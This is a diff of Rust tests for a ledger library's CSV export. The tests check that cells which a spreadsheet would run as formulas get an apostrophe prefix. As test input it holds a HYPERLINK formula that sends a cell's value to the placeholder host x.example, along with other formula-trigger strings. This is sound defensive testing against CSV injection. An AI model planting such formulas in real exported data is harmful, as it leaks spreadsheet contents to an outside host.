@@ -1,121 +1,93 @@
-//! Sheets of spreadsheets: `cases/visits.xlsx` was written by openpyxl, `cases/visits.ods` by odfpy, with the same cells.
-//! Above the header is a title and a blank row. Days, numbers and a time of day are cells of their kinds, one id is a
-//! number and another one text, and cells contain quotes, commas and a line break.
+//! CSV for spreadsheets: texts that would be run as a formula get an apostrophe, and all else stays.
 
-use covalue::table::Options;
-use covalue::{Ledger, date};
+use covalue::printable::for_spreadsheets;
+use covalue::{Appraisal, By, Catalogue, Interaction, Ledger, Measure, Service, Terms, User, date};
+use proptest::prelude::*;
 
-use super::table_input::empty;
+use super::command_line::{answers, refuses};
+use crate::support::generate::cases;
 
-const FILES: [(&str, &[u8]); 2] =
-    [("xlsx", include_bytes!("cases/visits.xlsx")), ("ods", include_bytes!("cases/visits.ods"))];
+const FORMULA: &str = "=HYPERLINK(\"http://x.example/?\"&A1,\"open\")";
 
-fn options() -> Options {
-    Options::new()
-        .sheet("Visits")
-        .header_line(3)
-        .column("Ref", "id")
-        .column("Team", "service")
-        .column("Client ID", "user")
-        .column("Seen on", "on")
-        .column("Tool", "measure")
-        .column("Start", "before")
-        .column("End", "after")
-        .missing("End", "n/a")
-        .ignore("Notes")
-}
-
-fn check(ledger: &Ledger, file: &str) {
-    let one = |id: &str| ledger.interaction(id).unwrap_or_else(|| panic!("{file}: {id}"));
-    let levels = |id: &str| {
-        let interaction = one(id);
-        let appraisal = interaction.appraisals().next().unwrap();
-        (appraisal.get_before().copied(), appraisal.get_after().copied())
-    };
-    assert_eq!(levels("101"), (Some(6.5), Some(4.0)), "{file}");
-    assert_eq!(levels("102"), (Some(7.0), None), "{file}");
-    assert_eq!(levels("103"), (Some(0.1), Some(0.3)), "{file}");
-    let days = ["101", "102", "103"].map(|id| one(id).on());
-    assert_eq!(days, [date(2026, 3, 2), date(2026, 3, 9), date(2026, 3, 10)], "{file}");
-    assert_eq!(one("103").users().next().unwrap().id().as_str(), "Zoë\nMaria", "{file}");
+/// The cells of a CSV.
+fn cells(csv: &str) -> Vec<Vec<String>> {
+    let rows = csv::ReaderBuilder::new().has_headers(false).from_reader(csv.as_bytes()).into_records();
+    rows.map(|row| row.unwrap().iter().map(str::to_owned).collect()).collect()
 }
 
 #[test]
-fn a_sheet_is_read_as_a_table_is() {
-    for (file, bytes) in FILES {
-        let mut ledger = empty();
-        let intake = options().read(&mut ledger, bytes).unwrap();
-        check(&ledger, file);
-        assert_eq!(
-            (intake.line_count(), intake.skipped_line_count(), intake.missing_code_count()),
-            (7, 2, 1),
-            "{file}"
-        );
-        // Options for text leave the cells of other kinds as they are.
-        let mut as_in_text = empty();
-        let _ = options().decimal_comma().days("%d.%m.%Y").delimiter(';').read(&mut as_in_text, bytes).unwrap();
-        check(&as_in_text, file);
+fn texts_that_a_spreadsheet_runs_are_marked_and_numbers_are_not() {
+    let catalogue = Catalogue::new([Measure::lower_is_better("@SUM(1+9)", "points")], [Service::new(FORMULA, "+1+1")]);
+    let mut ledger = Ledger::new(&catalogue.unwrap());
+    for (user, change) in [("-2+3", 2.0), ("\tana", -1e300), ("\rben", 1e-300), ("＝cai", 0.0), ("dee", 1.0)] {
+        let visit = Interaction::between(User::new(user).with("note", ""), FORMULA, date(2026, 3, 2));
+        ledger.record(visit.appraisal(Appraisal::of("@SUM(1+9)").change(change))).unwrap();
+    }
+    let terms = || Terms::by(By::Service.and(By::User).and(By::with("note")));
+    for csv in [
+        ledger.statement(terms()).unwrap().to_csv().unwrap(),
+        ledger.relations(terms()).unwrap().to_csv(),
+        ledger.publish(2).statement(By::Service).unwrap().to_csv(),
+        ledger.trace(By::Service, FORMULA, "@SUM(1+9)").unwrap().to_csv(),
+    ] {
+        let (plain, marked) = (cells(&csv), cells(&for_spreadsheets(&csv)));
+        assert_eq!(plain.len(), marked.len());
+        for (plain, marked) in plain.iter().flatten().zip(marked.iter().flatten()) {
+            let is_formula = plain.starts_with(['=', '+', '-', '@', '\t', '\r', '＝']) && plain.parse::<f64>().is_err();
+            let expected = if is_formula { format!("'{plain}") } else { plain.clone() };
+            assert_eq!(*marked, expected);
+        }
+        assert!(csv.contains(",@SUM(1+9),") && for_spreadsheets(&csv).contains(",'@SUM(1+9),"), "{csv}");
+        // An empty text and an absent value are still two things.
+        assert_eq!(csv.matches("\"\"").count(), for_spreadsheets(&csv).matches("\"\"").count());
     }
 }
 
 #[test]
-fn rejects_of_a_sheet_are_a_table() {
-    for (file, bytes) in FILES {
-        let mut ledger = empty::<f64>();
-        let strict = Options::new().sheet("Visits").header_line(3);
-        let columns = [
-            ("Ref", "id"),
-            ("Team", "service"),
-            ("Client ID", "user"),
-            ("Seen on", "on"),
-            ("Tool", "measure"),
-            ("Start", "before"),
-            ("End", "after"),
-        ];
-        let strict =
-            columns.into_iter().fold(strict, |options, (name, column)| options.column(name, column)).ignore("Notes");
-        let intake = strict.read_lenient(&mut ledger, bytes).unwrap();
-        let [refused] = intake.refused() else { panic!("{file}: one row is refused") };
-        assert_eq!(refused.to_string(), "line 5: R3: End: `n/a` is not a number", "{file}");
-        assert_eq!(refused.text(), "102,physio,ben,2026-03-09,pain,7,n/a,", "{file}");
-        let rejects = intake.rejects().unwrap();
-        assert_eq!(
-            rejects,
-            "\n\nrefused,Ref,Team,Client ID,Seen on,Tool,Start,End,Notes\nline 5: R3: End: `n/a` is not a number,102,physio,ben,2026-03-09,pain,7,n/a,\n",
-            "{file}"
-        );
-        // Mended, it is read with the same options.
-        let _ = strict.read(&mut ledger, rejects.replace("n/a,\n", "6,\n").as_bytes()).unwrap();
-        assert_eq!(ledger.len(), 3, "{file}");
+fn every_kind_of_number_stays() {
+    for number in ["-2.0", "0", "-1e300", "2.5e-7", "-1/3", "1/3", "-9223372036854775808", "1E+5"] {
+        assert_eq!(for_spreadsheets(&format!("{number},{number}\n")), format!("{number},{number}\n"));
+    }
+    for text in ["-", "-1-1", "+1", "-1/3/4", "-1e", "-a", "--1", "=", "-1.", "-.5"] {
+        assert_eq!(for_spreadsheets(&format!("a,{text}\n{text},\n")), format!("a,'{text}\n'{text},\n"));
+    }
+    // An absent value at the end of a row is not a line feed.
+    assert_eq!(for_spreadsheets("a,\n,b\n\n"), "a,\n,b\n\n");
+    assert_eq!(for_spreadsheets("\"\n=1\",\"a\n=1\",\"\",\"-1\"\n"), "\"'\n=1\",\"a\n=1\",\"\",\"-1\"\n");
+    assert_eq!(for_spreadsheets(""), "");
+}
+
+proptest! {
+    #![proptest_config(cases(128))]
+
+    /// Whatever the cells, no marked text is a formula, no other cell changes, and a second marking changes nothing.
+    #[test]
+    fn any_table_keeps_its_cells(rows in prop::collection::vec(prop::collection::vec("[-=+@\t\ra1,\"\n./e ]{0,6}", 3), 1..6)) {
+        let mut writer = csv::Writer::from_writer(Vec::new());
+        for row in &rows {
+            writer.write_record(row).unwrap();
+        }
+        let csv = String::from_utf8(writer.into_inner().unwrap()).unwrap();
+        let marked = for_spreadsheets(&csv);
+        for (row, marked) in rows.iter().flatten().zip(cells(&marked).iter().flatten()) {
+            prop_assert!(marked == row || *marked == format!("'{row}"), "{row:?} is {marked:?}");
+            let runs = marked.starts_with(['=', '+', '@', '\t', '\r', '\n']);
+            prop_assert!(!runs, "{marked:?}");
+        }
+        prop_assert_eq!(for_spreadsheets(&marked), marked);
     }
 }
 
 #[test]
-fn a_sheet_that_is_not_there_is_named() {
-    let message = |options: &Options, bytes: &[u8]| options.read(&mut empty::<f64>(), bytes).unwrap_err().to_string();
-    for (_, bytes) in FILES {
-        let known = "`Visits`, `Codes & keys`";
-        assert_eq!(
-            message(&Options::new(), bytes),
-            format!("line 1: form: the file is a spreadsheet: name the sheet to read, one of {known}")
-        );
-        assert_eq!(
-            message(&Options::new().sheet("visits"), bytes),
-            format!("line 1: form: the file is a spreadsheet: it has no sheet `visits`, only {known}")
-        );
-        assert_eq!(
-            message(&Options::new().sheet("Codes & keys"), bytes),
-            format!(
-                "line {}: form: unknown column `pain`, expected one of id, service, user, on, measure, before, after, change, expected, without, beneficiary, follow_up, source, made, known, use, user_integrated, user_misintegrated, user_not_integrated, user_excused, provider_integrated, provider_misintegrated, provider_not_integrated, provider_excused, misused_by, intent, cause, with.NAME, ref.NAME",
-                if bytes == FILES[0].1 { 3 } else { 1 }
-            )
-        );
-    }
-    for broken in [&b"PK\x03\x04\x14\0\x06\0"[..], b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", &FILES[0].1[..4_000]] {
-        let message = message(&Options::new().sheet("Visits"), broken);
-        assert!(message.starts_with("line 1: form: the file is a spreadsheet: it cannot be read: "), "{message}");
-    }
-    // A text file is read as text.
-    let file = "id,service,user,on,measure,before,after\nv1,physio,ana,2026-03-02,,,\n";
-    assert!(Options::new().sheet("Visits").read(&mut empty::<f64>(), file.as_bytes()).is_ok());
+fn the_command_has_an_option_for_spreadsheets() {
+    let journal = r#"{"measure":{"id":"@SUM(1+9)","unit":"points","better":"lower"}}
+{"service":{"id":"=1+2","provider":"clinic"}}
+{"interaction":{"service":"=1+2","users":["ana"],"on":"2026-03-02","appraisals":[{"measure":"@SUM(1+9)","before":6,"after":4}]}}
+"#;
+    let plain = answers(&["-", "--format", "csv"], journal);
+    assert!(plain.contains("\n=1+2,@SUM(1+9),2.0,"), "{plain}");
+    let marked = answers(&["-", "--format", "csv", "--for-spreadsheets"], journal);
+    assert!(marked.contains("\n'=1+2,'@SUM(1+9),2.0,"), "{marked}");
+    refuses(&["physio.jsonl", "--for-spreadsheets"], "--for-spreadsheets needs --format csv");
+    refuses(&["physio.jsonl", "--for-spreadsheets", "--format", "json"], "--for-spreadsheets needs --format csv");
 }
